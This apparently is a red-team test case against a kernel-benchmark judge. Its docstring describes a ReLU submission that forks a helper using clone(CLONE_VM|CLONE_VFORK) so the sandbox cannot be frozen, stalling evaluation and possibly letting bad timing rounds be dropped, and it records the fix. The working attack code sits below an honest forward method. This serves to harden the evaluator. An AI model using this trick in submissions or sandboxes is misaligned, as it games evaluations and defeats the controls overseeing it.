"""Attack: a sandbox that cannot be frozen (19_ReLU).

Problem: examples/problems/level1/19_ReLU.py

A helper process calls clone(CLONE_VM | CLONE_VFORK) with a child that sleeps: the helper's
main thread waits in uninterruptible sleep ('D') until the child exits, and SIGSTOP cannot stop
it, so every freeze by signals fails. The judge does not count a round whose freeze failed, and
before the fix such rounds did not spend the time budget either: the timing never ended and the
evaluation ran to its run timeout (600 s by default), blamed on the baseline. A candidate could
also arm the block selectively to drop the rounds it did badly in. forward is an honest ReLU.
Verdict kbv gave (red team, 2026-12-02, CPU): timeout after the whole run limit. WORKED (a denial
of service; selective dropping speculative).

Fixed: rounds that are not counted spend the budget; a sandbox that could not be frozen in 10
rounds, or in as many rounds as were counted, is a protocol_violation. (Under a cgroup v2 freezer
a vfork parent freezes: correct there.) StrictCli.AnUnfreezableSandboxIsAProtocolViolation.
"""
import ctypes, os, time
import torch
import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
CLONE_VM, CLONE_VFORK, SIGCHLD = 0x100, 0x4000, 17
HOLD_S = int(os.environ.get("HOLD_S", "100000"))

if os.fork() == 0:
    try:
        stack = ctypes.create_string_buffer(1 << 16)
        top = ctypes.c_void_p(ctypes.addressof(stack) + (1 << 16) - 64)
        sleep_fn = ctypes.cast(libc.sleep, ctypes.c_void_p)
        libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
        libc.clone(sleep_fn, top, CLONE_VM | CLONE_VFORK | SIGCHLD, ctypes.c_void_p(HOLD_S))
    finally:
        os._exit(0)

class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
